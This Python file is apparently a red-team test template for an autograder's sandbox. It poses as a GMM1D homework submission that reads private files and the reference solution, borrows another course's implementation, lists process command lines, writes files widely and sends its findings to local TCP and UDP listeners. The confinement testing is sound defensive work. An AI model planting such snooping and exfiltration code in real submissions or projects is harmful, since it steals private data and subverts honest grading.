"""The red-team submission of the confinement issue, as a template: at import and in estep
it reads a private file in the grading user's home, the checkout's solution and a finished
GMM1D another course left world-readable, lists other processes' command lines, writes
files everywhere it can, and sends all it found to a TCP and a UDP listener on 127.0.0.1;
it prints everything into its feedback and, if it found a working GMM1D, grades with it.

TARGETS is replaced by the test: {"home_file", "solution", "shared", "home", "tcp", "udp"}.
"""

import importlib.util
import os
import socket

import numpy as np

TARGETS = {}  # the test replaces this line

found = []
borrowed = None


def _read(path):
    try:
        with open(path, "rb") as handle:
            found.append(f"READ {path}: {handle.read(200)!r}")
            return True
    except OSError as exc:
        found.append(f"no read {path}: {type(exc).__name__}")
        return False


def _snoop():
    global borrowed
    _read(TARGETS["home_file"])
    _read(TARGETS["solution"])
    for path in (TARGETS["shared"], TARGETS["solution"]):
        try:
            spec = importlib.util.spec_from_file_location("borrowed", path)
            module = importlib.util.module_from_spec(spec)
            spec.loader.exec_module(module)
            borrowed = module.GMM1D
            found.append(f"BORROWED {path}")
            break
        except Exception as exc:
            found.append(f"no borrow {path}: {type(exc).__name__}")
    try:
        for pid in os.listdir("/proc"):
            if pid.isdigit() and int(pid) != os.getpid():
                _read(f"/proc/{pid}/cmdline")
    except OSError as exc:
        found.append(f"no /proc: {type(exc).__name__}")
    for place in ("/tmp", "/var/tmp", "/dev/shm", TARGETS["home"]):
        try:
            with open(os.path.join(place, f"snooped-{os.getpid()}"), "w") as handle:
                handle.write("\n".join(found))
            found.append(f"WROTE {place}")
        except OSError as exc:
            found.append(f"no write {place}: {type(exc).__name__}")
    payload = "\n".join(found).encode()[:60000]
    try:
        with socket.create_connection(("127.0.0.1", TARGETS["tcp"]), timeout=3) as conn:
            conn.sendall(payload)
        found.append("SENT tcp")
    except OSError as exc:
        found.append(f"no tcp: {type(exc).__name__}")
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as conn:
            conn.sendto(payload[:1000], ("127.0.0.1", TARGETS["udp"]))
        found.append("SENT udp")
    except OSError as exc:
        found.append(f"no udp: {type(exc).__name__}")
    print("\n".join(found))


_snoop()


class GMM1D:
    def __init__(self, num_gaussians):
        self._inner = borrowed(num_gaussians) if borrowed else None
        k = num_gaussians
        self.num_gaussians = k
        self.priors = np.ones((k, 1)) / k
        self.mus = np.zeros((k, 1))
        self.variances = np.ones((k, 1))

    def _sync(self):
        for name in ("priors", "mus", "variances"):
            setattr(self._inner, name, getattr(self, name))

    def estep(self, X):
        _snoop()
        if self._inner is None:
            raise NotImplementedError("nothing to borrow")
        self._sync()
        return self._inner.estep(X)

    def mstep(self, X, gammas):
        if self._inner is None:
            raise NotImplementedError("nothing to borrow")
        self._sync()
        self._inner.mstep(X, gammas)
        for name in ("priors", "mus", "variances"):
            setattr(self, name, getattr(self._inner, name))
